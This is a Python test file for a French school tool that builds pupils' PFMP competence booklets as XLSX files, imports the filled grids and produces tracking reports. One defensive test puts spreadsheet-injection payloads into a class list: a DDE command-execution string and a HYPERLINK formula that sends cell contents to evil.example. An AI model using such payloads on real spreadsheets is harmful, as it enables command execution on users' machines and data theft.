"""`scenario-lib pfmp`: livrets, importer, suivi on a copy of the sample bank; French messages, files on disk."""

from functools import partial

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from scenario_lib.bank import Bank
from scenario_lib.pfmp import class_bank
from scenario_lib.referential import load_referential
from tests.pfmp.conftest import write_class_list


@pytest.fixture
def liste(tmp_path):
    return write_class_list(tmp_path / "classe.csv", 2)


@pytest.fixture
def run(cli):
    return partial(cli, "pfmp")


def livrets(run, liste, sample_bank, out, *extra):
    return run("livrets", liste, "--banque", sample_bank, "--sortie", out, *extra)


def test_livrets_write_xlsx_and_store_booklets(run, liste, sample_bank, tmp_path):
    scenario = next(e for e in Bank(sample_bank).list(doc_type="scenario", level="terminale"))
    code, out, _ = livrets(
        run, liste, sample_bank, tmp_path / "out", "--annee", "terminale", "--scenarios", scenario.id
    )
    files = sorted((tmp_path / "out").glob("*.xlsx"))
    assert code == 0 and len(files) == 2 and f"2 livret(s) modifiable(s) (XLSX) dans {tmp_path / 'out'}" in out
    stored = [class_bank(sample_bank, "1MCVB").get(e.id) for e in class_bank(sample_bank, "1MCVB").list()]
    assert sorted(b.year for b in stored) == ["terminale"] * 2
    first = Bank(sample_bank).get(scenario.id).competences[0]
    grid = load_workbook(files[0])["Compétences"]
    assert scenario.title in next(r[2].value for r in grid.iter_rows(min_row=2) if r[0].value == first)
    assert grid["C1"].value.endswith("PFMP 3")


def test_livrets_with_an_unknown_situation_stop_in_french(run, liste, sample_bank, tmp_path):
    code, _, err = livrets(run, liste, sample_bank, tmp_path / "out", "--scenarios", "inconnu-7")
    assert code == 1 and "Erreur : aucun document d'identifiant « inconnu-7 »" in err
    assert not (tmp_path / "out").exists() and class_bank(sample_bank, "1MCVB").list() == []


@pytest.mark.parametrize(
    "content, reason",
    [
        ("nom;prénom\nMartin;Léa\n", "colonne(s) obligatoire(s) absente(s) : classe"),
        ("nom;prénom;classe\nMartin;Léa;1MCVB\nMartin;Léa;1MCVB\n", "élève en double"),
    ],
)
def test_bad_class_list_is_named(run, sample_bank, tmp_path, content, reason):
    path = tmp_path / "liste.csv"
    path.write_text(content, encoding="utf-8")
    code, _, err = livrets(run, path, sample_bank, tmp_path / "out")
    assert code == 1 and reason in err and "liste.csv" in err


def test_missing_class_list(run, sample_bank, tmp_path):
    code, _, err = livrets(run, tmp_path / "absente.csv", sample_bank, tmp_path / "out")
    assert code == 1 and "liste de classe introuvable" in err


def fill(path, level_of):
    wb = load_workbook(path)
    typed = {}
    for row in wb["Compétences"].iter_rows(min_row=2):
        level = level_of(str(row[0].value))
        if level and row[0].value.count(".") == 2:
            row[3].value = typed[row[0].value] = level
    wb.save(path)
    return typed


def test_importer_then_suivi(run, liste, sample_bank, tmp_path):
    ref = load_referential("bacpro-mcv-b")
    livrets(run, liste, sample_bank, tmp_path / "out")
    first, second = sorted((tmp_path / "out").glob("*.xlsx"))
    top = ref.competences[0]
    # first pupil: Expert on every part of the first competence; second pupil: Novice on one part of it
    typed = fill(first, lambda code: "E" if code.startswith(top.code + ".") else None)
    fill(second, lambda code: "N" if code == top.sub_competences[0].code else None)

    code, out, _ = run("importer", liste, "--banque", sample_bank)
    assert code == 2 and "Aucune grille à importer" in out

    code, out, _ = run("importer", liste, first, second, "--banque", sample_bank)
    assert code == 0 and "Classe 1MCVB : 2 grille(s) importée(s)." in out
    store = class_bank(sample_bank, "1MCVB")
    levels = sorted((store.get(e.id).levels for e in store.list()), key=len)
    assert {"PFMP 1": typed} in levels

    code, out, _ = run("suivi", liste, "--banque", sample_bank, "--sortie", tmp_path / "suivi")
    pairs = 2 * len(ref.competences)
    assert code == 0
    assert (
        f"Classe 1MCVB : 2 élève(s), 1 compétence(s) au niveau Averti ou plus sur {pairs}, {pairs - 1} à travailler."
        in out
    )
    assert "jamais évaluée" in out and "Novice" in out
    page = (tmp_path / "suivi" / "tableau-de-bord.html").read_text(encoding="utf-8")
    assert page.split("<tbody>")[1].count("<tr>") == 2 and "MARTIN Zoé" in page and "DURAND Léa" in page
    assert (
        page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page and f"{pairs - 1} à travailler" in page
    )
    pdfs = sorted((tmp_path / "suivi" / "syntheses").glob("*.pdf"))
    assert len(pdfs) == 2 and all(len(PdfReader(p).pages) >= 1 for p in pdfs)


def test_a_bad_grid_is_refused_alone_and_a_blank_one_waits(run, liste, sample_bank, tmp_path):
    liste = write_class_list(tmp_path / "classe3.csv", 3)
    livrets(run, liste, sample_bank, tmp_path / "out")
    good, bad, blank = sorted((tmp_path / "out").glob("*.xlsx"))
    fill(good, lambda code: "A")
    fill(bad, lambda code: "Z" if code == "1.1.1" else None)
    code, out, err = run("importer", liste, good, bad, blank, "--banque", sample_bank)
    assert code == 1
    assert "Classe 1MCVB : 1 grille(s) importée(s) ; 1 grille(s) vierge(s) ignorée(s) ; 1 grille(s) refusée(s)." in out
    assert f"Ignorée : « {blank.name} »" in out and "grille vierge" in out
    assert f"Refusée : « {bad.name} » : feuille « Compétences », ligne 3 (1.1.1, PFMP 1) : niveau « Z » inconnu" in err
    store = class_bank(sample_bank, "1MCVB")
    assert store.get(bad.stem).levels == {} and store.get(blank.stem).levels == {}
    assert set(store.get(good.stem).levels["PFMP 1"].values()) == {"A"}


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_modele_liste_writes_a_class_list_the_livrets_action_reads(run, sample_bank, tmp_path, kind):
    target = tmp_path / f"modele.{kind}"
    code, out, _ = run("modele-liste", target)
    assert code == 0 and f"Modèle de liste de classe écrit : {target}" in out and target.is_file()
    code, out, _ = livrets(run, target, sample_bank, tmp_path / "out")
    assert code == 0 and "1 livret(s) modifiable(s)" in out


def test_suivi_before_any_booklet(run, liste, sample_bank, tmp_path):
    code, _, err = run("suivi", liste, "--banque", sample_bank, "--sortie", tmp_path / "suivi")
    assert code == 1 and "générez d'abord les livrets" in err


def test_long_names_give_one_booklet_per_pupil(run, sample_bank, tmp_path):
    stem = "De La Fontaine-Saint-Exupéry-Montmorency-Beauharnais-Villeneuve-Lès-Avignon"
    path = tmp_path / "liste.csv"
    path.write_text("nom;prénom;classe\n" + "".join(f"{stem} {x};Marie;1MCVB\n" for x in "ABC"), encoding="utf-8")
    code, out, _ = livrets(run, path, sample_bank, tmp_path / "out")
    assert code == 0 and "3 livret(s)" in out
    assert len(list((tmp_path / "out").glob("*.xlsx"))) == 3 and len(class_bank(sample_bank, "1MCVB").list()) == 3


@pytest.mark.parametrize(
    "raw, reason",
    [
        (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;L\x00a;1MCVB\n", "ligne 3 : caractère de contrôle"),
        (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;;1MCVB\nRoux;Noe;\n", "ligne 3 : prénom : texte vide ; ligne 4"),
    ],
)
def test_a_bad_list_generates_nothing_at_all(run, sample_bank, tmp_path, raw, reason):
    path = tmp_path / "liste.csv"
    path.write_bytes(raw)
    before = sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*"))
    code, _, err = livrets(run, path, sample_bank, tmp_path / "out")
    assert code == 1 and reason in err and "liste.csv" in err and "Traceback" not in err
    assert (
        not (tmp_path / "out").exists() and sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*")) == before
    )


def test_booklets_for_tutors_hold_no_live_formula(run, sample_bank, tmp_path):
    from tests.sheetcheck import live_xlsx_cells

    path = tmp_path / "liste.csv"
    path.write_text(
        "nom;prénom;classe;entreprise;tuteur\n=cmd|' /C calc'!A0;+1+1;1MCVB;"
        '"=HYPERLINK(""http://evil.example/?x=""&B2,""clic"")";@SUM(1)\n',
        encoding="utf-8",
    )
    code, _, _ = livrets(run, path, sample_bank, tmp_path / "out")
    [xlsx] = (tmp_path / "out").glob("*.xlsx")
    assert code == 0 and live_xlsx_cells(xlsx) == []


def test_imported_grid_of_another_pupil_changes_nothing(run, liste, sample_bank, tmp_path):
    livrets(run, liste, sample_bank, tmp_path / "out")
    store = class_bank(sample_bank, "1MCVB")
    first, second = sorted((tmp_path / "out").glob("*.xlsx"))
    wb = load_workbook(second)
    next(r for r in wb["_spirale"].iter_rows() if r[0].value == "livret")[1].value = first.stem
    wb["Compétences"]["D3"] = "E"
    wb.save(second)
    before = {e.id: store.get(e.id).levels for e in store.list()}
    code, _, err = run("importer", liste, second, "--banque", sample_bank)
    assert code == 1 and "feuille cachée a été modifiée" in err and "rien n'a été importé" in err
    assert {e.id: store.get(e.id).levels for e in store.list()} == before
